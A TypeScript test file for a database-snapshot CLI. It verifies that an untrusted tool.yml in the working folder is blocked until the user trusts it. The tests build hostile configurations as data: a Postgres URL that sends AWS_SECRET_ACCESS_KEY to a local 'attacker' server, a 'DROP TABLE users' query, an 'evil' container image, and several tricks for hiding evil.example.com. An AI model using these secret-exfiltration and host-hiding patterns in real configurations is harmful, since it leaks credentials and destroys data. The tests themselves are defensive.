import { once } from 'node:events';
import { mkdir, readFile, stat, writeFile } from 'node:fs/promises';
import { type AddressInfo, createServer } from 'node:net';
import { join } from 'node:path';
import { PassThrough } from 'node:stream';
import { afterAll, beforeAll, describe, expect, test } from 'vitest';
import { createModel } from '../../screens/app/create-model.ts';
import { refreshTargets } from '../../screens/app/lists/refresh.ts';
import { lazyOperations } from '../../screens/app/operations.ts';
import { confirmTrust } from '../../screens/commands/configuration/trust.ts';
import type { CommandHost } from '../../src/cli/host.ts';
import { COMMANDS } from '../../src/commands/registry.ts';
import { createContext } from '../../src/runtime/context.ts';
import { ATTENDED, PIPED, runWith, type TestedRun } from '../helpers/terminal/cli-host.ts';
import { type ConfigFolder, configFolder, SECRET_KEY, withKey } from '../helpers/terminal/config-folder.ts';
import { press, until } from '../helpers/terminal/driven-model.ts';
import { fakeTerminal } from '../helpers/terminal/fake-terminal.ts';

/** Runs the program in a folder that somebody else has filled, without what the other tests trust. */
function tool(
  { path, ...change }: Pick<ConfigFolder, 'path'> & Partial<Pick<CommandHost, 'terminal' | 'stdin'>>,
  words: string[],
  environment: NodeJS.ProcessEnv = {},
): Promise<TestedRun> {
  const env = { PATH: process.env.PATH, HOME: join(path, 'home'), AWS_SECRET_ACCESS_KEY: 'never-to-be-sent' };
  return runWith(words, COMMANDS, {
    cwd: path,
    environment: { ...env, ...environment },
    openContext: createContext,
    terminal: change.terminal ?? PIPED,
    stdin: change.stdin ?? new PassThrough(),
  });
}

let attacker: ReturnType<typeof createServer>;
const received: string[] = [];

beforeAll(async () => {
  attacker = createServer((socket) => {
    received.push('connection');
    socket.destroy();
  });
  attacker.listen(0, '127.0.0.1');
  await once(attacker, 'listening');
});

afterAll(() => attacker.close());

function hostile(more = ''): string {
  const { port } = attacker.address() as AddressInfo;
  return withKey(`targets:
  app:
    snapshot:
      src_url: 'postgres://{{env "AWS_SECRET_ACCESS_KEY"}}@127.0.0.1:${port}/app'
      dst_url: 'postgres://127.0.0.1:${port}/copy'
    sanitize:
      override_query: 'DROP TABLE users'
docker:
  images: { postgres: 'evil/postgres:17' }
${more}`);
}

const LINES = [
  ['targets'],
  ['target', 'app'],
  ['build', 'app'],
  ['load', 'app', '--yes'],
  ['config', 'show'],
  ['config', 'encrypt'],
  ['config', 'decrypt', 'targets.app.snapshot.src_url'],
  ['auth', 'status'],
];

describe('an untrusted tool.yml in the current folder', () => {
  test.each(LINES.map((words) => ({ words })))(
    'tool $words connects to nothing and exits with 5',
    async ({ words }) => {
      const folder = await configFolder({ 'tool.yml': hostile() });
      received.length = 0;
      const { exit, stdout, stderr } = await tool(folder, words);
      expect(exit).toBe(5);
      expect(received).toEqual([]);
      expect(stdout + stderr).not.toContain('never-to-be-sent');
      expect(await readFile(join(folder.path, 'tool.yml'), 'utf8')).toBe(hostile());
    },
  );

  test.each([[], ['--offline']])(
    'tool config check %s checks syntax and schema, and uses nothing of it',
    async (...words) => {
      const folder = await configFolder({
        'tool.yml': hostile(
          'storage_profiles: { a: { provider: minio, bucket: b, endpoint: "http://127.0.0.1:1" } }\n',
        ),
      });
      received.length = 0;
      const valid = await tool(folder, ['config', 'check', '--json', ...words]);
      expect(valid.exit).toBe(0);
      expect(JSON.parse(valid.stdout)).toMatchObject({
        ok: true,
        problems: [{ code: 'configuration_untrusted', severity: 'warning' }],
        working_directory: null,
        storage_profiles: [],
        sanitizing: [],
      });
      expect(valid.stdout + valid.stderr).not.toContain('never-to-be-sent');
      await folder.write('tool.yml', hostile('bsae_url: https://hub.example.com\nenv: nowhere\n'));
      const invalid = await tool(folder, ['config', 'check', '--json', ...words]);
      expect(invalid.exit).toBe(3);
      expect(JSON.parse(invalid.stdout).problems.map(({ code }: { code: string }) => code)).toEqual([
        'configuration_untrusted',
        'unknown_key',
        'wrong_value',
      ]);
      await folder.write('tool.yml', 'targets: [\n');
      expect((await tool(folder, ['config', 'check', ...words])).exit).toBe(3);
      expect(received).toEqual([]);
      await folder.write('tool.yml', hostile());
      await tool(folder, ['config', 'check', '--offline', '--trust']);
      expect((await tool(folder, ['targets', '--no-check'])).exit).toBe(0);
    },
  );

  test('the error names the file, the hosts, the variables, the images and the SQL, and how to trust it', async () => {
    const folder = await configFolder({ 'tool.yml': hostile() });
    const { stderr } = await tool(folder, ['targets'], { TOOL_NO_CONFIRM: 'true' });
    const { port } = attacker.address() as AddressInfo;
    for (const shown of [
      join(folder.path, 'tool.yml'),
      `@127.0.0.1:${port}/app`,
      `postgres://127.0.0.1:${port}/copy`,
      'AWS_SECRET_ACCESS_KEY',
      'evil/postgres:17',
      'DROP TABLE users',
      '--trust',
      'TOOL_TRUST=',
    ]) {
      expect(stderr).toContain(shown);
    }
    const { stdout } = await tool(folder, ['targets', '--json']);
    expect(JSON.parse(stdout).error).toMatchObject({ code: 'configuration_untrusted', exit: 5 });
  });

  test('shell completion offers nothing of it and prints no error', async () => {
    const folder = await configFolder({ 'tool.yml': hostile() });
    received.length = 0;
    expect(await tool(folder, ['__complete', '--', 'load', ''])).toMatchObject({ exit: 0, stdout: '', stderr: '' });
    expect(received).toEqual([]);
  });

  test.each([
    { title: 'an encrypted URL', url: "'$aes$SEALED'", shown: 'evil.example.com' },
    {
      title: 'a host in a parameter',
      url: "'postgres://db.example.com/app?%68ost=evil.example.com'",
      shown: 'evil.example.com',
    },
    {
      title: 'a URL that a variable begins',
      url: '\'{{env "DATABASE_URL"}}?host=evil.example.com\'',
      shown: 'evil.example.com',
    },
    { title: 'a constant of a template', url: "'postgres://{{`evil.example`}}.com/app'", shown: 'evil.example.com' },
    {
      title: 'a variable in the name of the host',
      url: '\'postgres://{{env "PW"}}.example.com/app\'',
      shown: '$PW.example.com',
    },
    {
      title: 'a control sequence',
      url: '"postgres://evil.example.com\\e[2K/app"',
      shown: 'evil.example.com\\u{1b}[2K',
    },
    { title: 'a service', url: "'postgres:///app?service=prod'", shown: 'service=prod' },
  ])('$title hides no host', async ({ url, shown }) => {
    const { encrypt } = await import('../../src/config/secrets/cipher.ts');
    const sealed = encrypt('postgres://evil.example.com/app', SECRET_KEY);
    const text = `targets:\n  app:\n    snapshot:\n      src_url: ${url.replace('$aes$SEALED', sealed)}\n`;
    const { exit, stderr } = await tool(await configFolder({ 'tool.yml': withKey(text) }), ['targets']);
    expect(exit).toBe(5);
    expect(stderr).toContain(shown);
    expect(stderr).not.toContain('\x1b[2K');
  });
});

describe('the answer', () => {
  test('--trust is stored for the path and the effects of the file, readable by its owner only', async () => {
    const folder = await configFolder({ 'tool.yml': hostile() });
    const show = (words: string[] = []) => tool(folder, ['targets', '--no-check', ...words]);
    expect((await show(['--trust'])).exit).toBe(0);
    expect((await show()).exit).toBe(0);
    const answers = join(folder.path, 'home/.config/tool/trusted.json');
    expect((await stat(answers)).mode & 0o777).toBe(0o600);
    // What asks for nothing new needs no new answer.
    await folder.write('tool.yml', hostile('# a comment\ntheme: dark\n'));
    expect((await show()).exit).toBe(0);
    for (const change of [
      hostile().replace('127.0.0.1', 'evil.example.com'),
      hostile().replace('AWS_SECRET_ACCESS_KEY', 'AWS_SESSION_TOKEN'),
      hostile().replace('postgres:17', 'postgres:18'),
      hostile().replace('DROP TABLE', 'TRUNCATE'),
      hostile('storage_profiles: { mine: { provider: s3, bucket: evil, region: eu-central-1 } }\n'),
    ]) {
      await folder.write('tool.yml', change);
      expect((await show()).exit).toBe(5);
    }
    await folder.write('other/tool.yml', hostile());
    await mkdir(join(folder.path, 'other/home/.config/tool'), { recursive: true });
    await writeFile(join(folder.path, 'other/home/.config/tool/trusted.json'), await readFile(answers));
    expect((await tool({ path: join(folder.path, 'other') }, ['targets', '--no-check'])).exit).toBe(5);
  });

  test('TOOL_TRUST is the path of the file or the hash of the error, for this run alone', async () => {
    const folder = await configFolder({ 'tool.yml': hostile() });
    const { stderr } = await tool(folder, ['targets', '--no-check']);
    const [, hash = ''] = /TOOL_TRUST=([0-9a-f]{64})/.exec(stderr) ?? [];
    for (const TOOL_TRUST of [hash, join(folder.path, 'tool.yml'), './tool.yml']) {
      expect((await tool(folder, ['targets', '--no-check'], { TOOL_TRUST })).exit).toBe(0);
    }
    expect((await tool(folder, ['targets', '--no-check'], { TOOL_TRUST: '/elsewhere/tool.yml' })).exit).toBe(5);
    expect((await tool(folder, ['targets', '--no-check'])).exit).toBe(5);
  });

  test('is not asked for a file that is named, under CI=true, or in the home folder', async () => {
    const folder = await configFolder({ 'tool.yml': hostile(), 'home/.config/tool/tool.yml': hostile() });
    expect((await tool(folder, ['targets', '--no-check', '--config', 'tool.yml'])).exit).toBe(0);
    expect((await tool(folder, ['targets', '--no-check'], { CI: 'true' })).exit).toBe(0);
    const own = { path: join(folder.path, 'home/.config/tool') };
    const HOME = join(folder.path, 'home');
    expect((await tool(own, ['targets', '--no-check'], { HOME })).exit).toBe(0);
  });

  test('stays when the program itself changes the file, and is not given by it', async () => {
    const { openDraft, addChange, saveDraft } = await import(
      '../../src/operations/configuration/edit-configuration.ts'
    );
    const folder = await configFolder({ 'tool.yml': hostile() });
    expect((await tool(folder, ['targets', '--no-check', '--trust'])).exit).toBe(0);
    const request = { cwd: folder.path, environment: { HOME: join(folder.path, 'home') } };
    const value = 'postgres://other.example.com/app';
    const path = ['targets', 'app', 'snapshot', 'dst_url'];
    await saveDraft(request, await addChange(request, await openDraft(request), { kind: 'set', path, value }));
    expect(await readFile(join(folder.path, 'tool.yml'), 'utf8')).toContain('other.example.com');
    expect((await tool(folder, ['targets', '--no-check'])).exit).toBe(0);
    expect((await tool(folder, ['config', 'encrypt'])).exit).toBe(0);
    expect((await tool(folder, ['targets', '--no-check'])).exit).toBe(0);

    const untrusted = await configFolder({ 'tool.yml': hostile() });
    expect((await tool(untrusted, ['config', 'encrypt'], { CI: 'true' })).exit).toBe(0);
    expect((await tool(untrusted, ['targets', '--no-check'])).exit).toBe(5);
  });

  test('is not needed for a file that the program has just written', async () => {
    const folder = await configFolder({});
    expect((await tool(folder, ['config', 'init', '--no-tui', '--config', 'tool.yml'])).exit).toBe(0);
    expect((await tool(folder, ['targets', '--no-check'])).exit).toBe(0);
  });

  test('is asked for on a terminal: yes goes on and is remembered, anything else, --yes too, is a no', async () => {
    const folder = await configFolder({ 'tool.yml': hostile() });
    const answer = (text: string) => {
      const stdin = new PassThrough();
      stdin.end(text);
      return { path: folder.path, terminal: ATTENDED, stdin };
    };
    const no = await tool(answer('\n'), ['targets', '--no-check', '--yes']);
    expect(no.exit).toBe(5);
    expect(no.stderr).toContain('Trust this configuration? [y/N]');
    expect((await tool(answer('y\n'), ['targets', '--no-check'])).exit).toBe(0);
    expect((await tool(folder, ['targets', '--no-check'])).exit).toBe(0);
  });
});

test('the screen asks before it reads the file; y trusts it, Esc does not', async () => {
  const folder = await configFolder({ 'tool.yml': hostile() });
  const environment = { HOME: join(folder.path, 'home') };
  const clock = () => new Date();
  const surroundings = { cwd: folder.path, environment, clock };
  const operations = lazyOperations((session) => createContext({ ...surroundings, ...session }), surroundings);
  const model = createModel({ operations, terminal: fakeTerminal(), clock, cwd: folder.path });
  received.length = 0;
  await refreshTargets(model);
  confirmTrust(model);
  const place = model.navigation.top();
  expect(place.screen === 'trust' && place.lines.map(({ text }) => text)).toContain('evil/postgres:17');
  press(model, 'esc');
  expect(model.navigation.top().screen).toBe('targets');
  expect(model.targets.getState().entries).toEqual([]);
  expect(received).toEqual([]);
  press(model, 'r');
  await until(() => model.navigation.top().screen === 'trust');
  press(model, 'T');
  await until(() => model.targets.getState().entries.length === 1);
});
